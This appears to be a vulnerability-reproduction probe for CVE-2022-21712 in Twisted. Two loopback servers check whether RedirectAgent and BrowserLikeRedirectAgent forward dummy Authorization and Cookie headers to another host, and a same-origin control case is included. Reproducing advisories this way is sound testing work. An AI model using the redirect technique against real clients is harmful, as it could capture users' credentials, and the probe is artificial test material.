# /// vertice-probe
# id = "PYSEC-2022-27"
# aliases = ["CVE-2022-21712", "GHSA-92x2-jw7w-xvvx"]
# package = "twisted"
# summary = "The redirect agents of the web client send cookies and credentials on to whatever site a redirect names."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N" }]
# cwe = ["CWE-200", "CWE-346"]
# kind = "leak"
# symbols = ["twisted.web.client.RedirectAgent", "twisted.web.client.BrowserLikeRedirectAgent"]
#
# [[affected]]
# package = "twisted"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "11.1.0" }, { fixed = "22.1.0" }] }]
#
# [cases]
# attack = "RedirectAgent carries Authorization and Cookie to another host"
# [cases.variants]
# browser_like = "BrowserLikeRedirectAgent carries them to another port after a POST"
# [cases.controls]
# same_origin = "a redirect within the same origin keeps both headers"
#
# [test]
# vulnerable = "21.7.0"
# fixed = "22.1.0"
# with = ["setuptools<70"]
# ///
"""CVE-2022-21712: secrets follow a redirect to another site."""

import http.server
import json
import sys
import threading
import warnings

warnings.simplefilter("ignore")


class Site(object):
    """A web server on a loopback address: redirects by path, notes path and lower-cased headers of what it gets."""

    def __init__(self, host):
        self.redirects, self.seen = {}, []
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                site.seen.append((self.path, {name.lower(): value for name, value in self.headers.items()}))
                target = site.redirects.get(self.path)
                self.send_response(302 if target else 200)
                if target:
                    self.send_header("Location", target)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args):
                pass

        server = http.server.HTTPServer((host, 0), Handler)
        self.url = "http://%s:%d" % (host, server.server_address[1])
        threading.Thread(target=server.serve_forever, daemon=True).start()


def run(start):
    """The result of the Deferred that `start` makes, awaited in the reactor."""
    from twisted.internet import defer, reactor

    outcome = []

    def done(result):
        outcome.append(result)
        reactor.stop()

    def begin():
        made = defer.maybeDeferred(start)
        made.addTimeout(10, reactor)
        made.addBoth(done)

    reactor.callWhenRunning(begin)
    reactor.run(installSignalHandlers=False)
    if hasattr(outcome[0], "raiseException"):
        outcome[0].raiseException()
    return outcome[0]


def request(agent_class, method, url):
    from twisted.internet import reactor
    from twisted.web import client
    from twisted.web.http_headers import Headers

    headers = Headers({"Authorization": ["Basic secret"], "Cookie": ["session=secret"], "X-Plain": ["1"]})
    return run(lambda: getattr(client, agent_class)(client.Agent(reactor)).request(method, url.encode(), headers))


def secrets(headers):
    return [name for name in ("authorization", "cookie") if name in headers]


def look(first, second):
    if len(first.seen) != 1 or len(secrets(first.seen[0][1])) != 2 or [path for path, _ in second.seen] != ["/end"]:
        return "error", "the redirect was not followed: %r %r" % (first.seen, second.seen)
    leaked, plain = secrets(second.seen[0][1]), second.seen[0][1].get("x-plain")
    if leaked:
        return "exploited", "the other site got %s" % " and ".join(leaked)
    return ("blocked", "the other site got the plain header only") if plain == "1" else ("error", "no header arrived")


def attack():
    first, second = Site("127.0.0.1"), Site("127.0.0.2")
    first.redirects["/start"] = second.url + "/end"
    request("RedirectAgent", b"GET", first.url + "/start")
    return look(first, second)


def browser_like():
    first, second = Site("127.0.0.1"), Site("127.0.0.1")
    first.redirects["/start"] = second.url + "/end"
    request("BrowserLikeRedirectAgent", b"POST", first.url + "/start")
    return look(first, second)


def same_origin():
    site = Site("127.0.0.1")
    site.redirects["/start"] = "/end"
    code = request("RedirectAgent", b"GET", site.url + "/start").code
    got = code, [(path, len(secrets(headers))) for path, headers in site.seen]
    good = got == (200, [("/start", 2), ("/end", 2)])
    return ("works", "redirected with both headers") if good else ("broken", repr(got))


CASES = {"attack": attack, "browser_like": browser_like, "same_origin": same_origin}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
